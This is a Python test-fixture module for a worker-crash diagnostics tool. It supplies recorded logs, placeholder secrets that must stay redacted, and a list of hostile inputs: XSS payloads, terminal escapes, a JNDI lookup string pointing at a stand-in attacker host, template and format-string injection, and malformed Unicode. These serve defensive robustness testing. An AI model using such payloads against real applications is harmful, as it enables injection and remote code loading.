"""
What the inputs are made of: recorded logs, and what attackers, accidents and secrets add to them.
"""

from __future__ import annotations

import io
import tempfile
import zipfile
from functools import cache
from pathlib import Path

import workerdiag
from workerdiag import LogText

ROOT = Path(__file__).parents[2]
#: A death that no line around it can undo: nobody asks for a segmentation fault.
DEATH = b"2026-05-04 11:22:34,000 - distributed.nanny - INFO - Worker process 7 was killed by signal 11"
#: What no output may show, and lines that carry it.
SECRET = "Hunter2" + "x9Qz7"
SECRETS = tuple(
    line.replace("SECRET", SECRET).encode()
    for line in (
        "OSError: [Errno 28] No space left on device: DB_PASSWORD=SECRET",
        "Key: x\x1b[31m token=\x1b[0mSECRET",
        "KilledWorker: postgres://ann:SECRET@db:5432/x",
        '{"password": "SECRET", "user": "ann"}',
        "Authorization: Bearer SECRET",
        "distributed.worker - ERROR - Worker stream died: https://x.example/?sig=SECRET",
    )
)
#: What a terminal, a browser or GitHub would act upon.
HOSTILE = (
    b"\x1b[31mred\x1b[0m \x1b]0;title\x07",
    b"<script>alert(1)</script><img src=x onerror=alert(1)>",
    b"![x](http://evil.example/x.png) [click](javascript:alert(1)) `a` ``` | **b**",
    "\u202egnirts \u2066 \u200b zero".encode(),
    b"\xff\xfe\x00\xed\xa0\x80",
    b"{{ 7 * 7 }} ${jndi:ldap://evil.example} %s%n",
    b"Killed",
    b'Traceback (most recent call last):\n  File "x.py", line 1, in f\nMemoryError',
    b"-----BEGIN RSA PRIVATE KEY-----",
    b"('INFO', 'distributed.nanny - Worker process 9 exited with status 1')",
    b"A" * 5000,
    b"(" * 500,
    b"\n" * 200,
)  # fmt: skip


@cache
def logs() -> tuple[bytes, ...]:
    """
    The recorded logs of the tests, the first 20,000 bytes of each.
    """
    folders = (ROOT / "tests" / "recordings", ROOT / "tests" / "cases")
    paths = sorted(
        path for folder in folders for path in folder.rglob("*") if path.suffix in {".log", ".txt", ".json"}
    )
    return tuple(path.read_bytes()[:20_000] for path in paths)


@cache
def rules() -> tuple[bytes, ...]:
    """
    The shipped rules.
    """
    return tuple(path.read_bytes() for path in sorted((ROOT / "knowledge" / "causes").rglob("*.toml")))


@cache
def bundles() -> tuple[bytes, ...]:
    """
    Bundles of some recorded deaths, packed and not.
    """
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "death.zip")
        packed = []
        for log in logs()[::40]:
            workerdiag.explain(logs=LogText(log.decode("utf-8", "replace"))).save(path)
            packed += [path.read_bytes(), _stored(path.read_bytes())]
    return tuple(packed)


def _stored(packed: bytes) -> bytes:
    """
    The same archive without compression, so that mutations meet what is in it.
    """
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(packed)) as old, zipfile.ZipFile(content, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return content.getvalue()


@cache
def boxes() -> tuple[bytes, ...]:
    """
    A black box that was used for a while.
    """
    from workerdiag.recorder.box.writing import BoxWriter

    with tempfile.TemporaryDirectory() as folder:
        box = BoxWriter.create(Path(folder), size_bytes=2**14, slots=3, worker="tcp://10.0.0.4:34937")
        for number in range(50):
            box.started(number % 3, f"task-{number}", 1, "a")
            box.sample(process_rss_bytes=number)
            box.line(b"line " * 20)
        content = box.path.read_bytes()
        box.close(remove=True)
    return (content,)
